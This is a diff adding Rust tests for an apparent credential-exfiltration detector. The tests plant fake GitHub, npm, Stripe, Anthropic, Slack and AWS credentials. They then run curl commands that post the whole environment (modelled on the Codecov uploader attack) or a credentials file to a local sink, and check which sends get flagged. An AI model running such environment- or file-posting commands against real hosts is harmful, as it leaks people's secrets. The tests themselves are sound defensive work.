@@ -1,0 +1,178 @@
+//! Credentials that leave in clear text, and sends that carry none.
+
+use super::{count, goes_to, sent};
+use crate::{
+    agent::Agent,
+    command::sh,
+    events::{Ask as _, list, of_kind},
+    machine::{Scratch, patience, turn, wait_for},
+    plant,
+    server::Sink,
+};
+use std::collections::BTreeSet;
+
+/// The Codecov uploader's act: a whole environment posted in clear text.
+pub fn environment_posted_in_clear() {
+    let _turn = turn();
+    let scratch = Scratch::new();
+    let sink = Sink::silent();
+    let agent = Agent::start(&scratch);
+    let planted = [
+        plant::github(),
+        plant::npm(),
+        plant::stripe(),
+        plant::anthropic(),
+        plant::slack(),
+    ];
+    let mut act = sh("curl -sm 0.5 -d \"$(env)\" http://127.0.0.1:$1/upload/v2; :")
+        .arg(sink.port.to_string());
+    for token in &planted {
+        act = act.env(token.name, &token.value);
+    }
+    // With PATH and LANG thirty variables.
+    for (name, value) in plant::gitlab_like_noise() {
+        act = act.env(name, value);
+    }
+    let done = act.run().ok();
+    for token in &planted {
+        assert!(sink.has(&token.value), "{} never arrived", token.name);
+    }
+    assert!(sink.has("POST /upload/v2"));
+    wait_for("five sends", patience(10), || {
+        (sent(&agent, done.pid).len() >= 5).then_some(())
+    });
+    agent.settle();
+    let events = agent.tree(done.pid);
+    let sent = of_kind(&events, "credential_sent");
+    count(&sent, 5, "sends");
+
+    // Fingerprints are known by the exposures: which variable is which credential.
+    let of = |name: &str| -> BTreeSet<String> {
+        of_kind(&events, "credential_exposed")
+            .iter()
+            .filter(|e| e.env_name() == name)
+            .map(|e| e.fingerprint().to_owned())
+            .collect()
+    };
+    for token in &planted {
+        let known = of(token.name);
+        assert_eq!(
+            known.len(),
+            1,
+            "{} is one credential: {known:?}",
+            token.name
+        );
+        let event = sent
+            .iter()
+            .find(|e| known.contains(e.fingerprint()))
+            .unwrap_or_else(|| panic!("{} was not seen to leave:\n{}", token.name, list(&sent)));
+        let text = event.brief();
+        assert_eq!(event.grade(), "observed", "{text}");
+        assert_eq!(event.channel(), "tcp", "{text}");
+        assert_eq!(event.transform(), "raw", "{text}");
+        assert_eq!(
+            event.evidence.as_ref().unwrap().destination_method,
+            "socket",
+            "{text}"
+        );
+        assert!(event.executable().ends_with("/curl"), "{text}");
+        assert!(matches!(event.source_type(), "env" | "argv"), "{text}");
+        assert!(event.attack.contains(&"T1041".to_owned()), "{text}");
+        goes_to(event, &["127.0.0.1"], sink.port);
+    }
+    // Nothing else of the thirty variables is taken for a credential.
+    let others: BTreeSet<String> = of_kind(&events, "credential_exposed")
+        .iter()
+        .filter(|e| e.source_type() == "env")
+        .map(|e| e.env_name().to_owned())
+        .filter(|name| planted.iter().all(|t| t.name != name))
+        .collect();
+    assert!(others.is_empty(), "taken for credentials: {others:?}");
+}
+
+/// A holder that sends other bytes: lineage, and no word more.
+pub fn holder_sends_other_bytes() {
+    let _turn = turn();
+    let scratch = Scratch::new();
+    let sink = Sink::http();
+    let agent = Agent::start(&scratch);
+    let token = plant::github();
+    let done = sh("curl -s -d hello=world http://127.0.0.1:$1/other; :")
+        .arg(sink.port.to_string())
+        .env("GITHUB_TOKEN", &token.value)
+        .run()
+        .ok();
+    assert!(sink.has("hello=world"));
+    agent.expect("lineage", done.pid, |e| {
+        e.is("credential_sent") && e.in_tree(done.pid)
+    });
+    agent.settle();
+    let sent = sent(&agent, done.pid);
+    count(&sent, 1, "sends");
+    let text = sent[0].brief();
+    assert_eq!(sent[0].grade(), "lineage", "{text}");
+    assert_eq!(sent[0].transform(), "", "{text}");
+    assert_eq!(sent[0].env_name(), "GITHUB_TOKEN", "{text}");
+    assert!(
+        sent[0].evidence.as_ref().unwrap().payload_bytes > 50,
+        "{text}"
+    );
+    goes_to(&sent[0], &["127.0.0.1"], sink.port);
+}
+
+/// A process that holds nothing and sends noise: nothing.
+pub fn stranger_sends_noise() {
+    let _turn = turn();
+    let scratch = Scratch::new();
+    let sink = Sink::http();
+    let agent = Agent::start(&scratch);
+    let done =
+        sh("head -c 100000 /dev/urandom | curl -s --data-binary @- http://127.0.0.1:$1/noise; :")
+            .arg(sink.port.to_string())
+            .run()
+            .ok();
+    wait_for("the noise", patience(5), || {
+        sink.received()
+            .iter()
+            .any(|bytes| bytes.len() > 100_000)
+            .then_some(())
+    });
+    agent.settle();
+    let about: Vec<_> = agent
+        .tree(done.pid)
+        .into_iter()
+        .filter(|e| e.kind.starts_with("credential_"))
+        .collect();
+    count(&about, 0, "events about a stranger");
+}
+
+/// What was read from a file goes down a pipe through other programs: the one that sends is a holder by inheritance
+/// or by the bytes it sends, and the file is named.
+pub fn read_file_sent_by_the_reader() {
+    let _turn = turn();
+    let scratch = Scratch::new();
+    let sink = Sink::http();
+    let (planted, file) = plant::aws_credentials(&scratch.make("home"));
+    let agent = Agent::start(&scratch);
+    let done = sh("curl -s --data-binary @\"$2\" http://127.0.0.1:$1/take; :")
+        .arg(sink.port.to_string())
+        .arg(&file)
+        .run()
+        .ok();
+    assert!(sink.has(&planted.value));
+    agent.expect("the send", done.pid, |e| {
+        e.is("credential_sent") && e.in_tree(done.pid)
+    });
+    agent.settle();
+    let sent = sent(&agent, done.pid);
+    count(&sent, 1, "sends");
+    let text = sent[0].brief();
+    assert_eq!(sent[0].grade(), "observed", "{text}");
+    assert_eq!(
+        Some(sent[0].identifier()),
+        planted.identifier.as_deref(),
+        "{text}"
+    );
+    assert_eq!(std::path::Path::new(sent[0].path()), file, "{text}");
+    goes_to(&sent[0], &["127.0.0.1"], sink.port);
+}
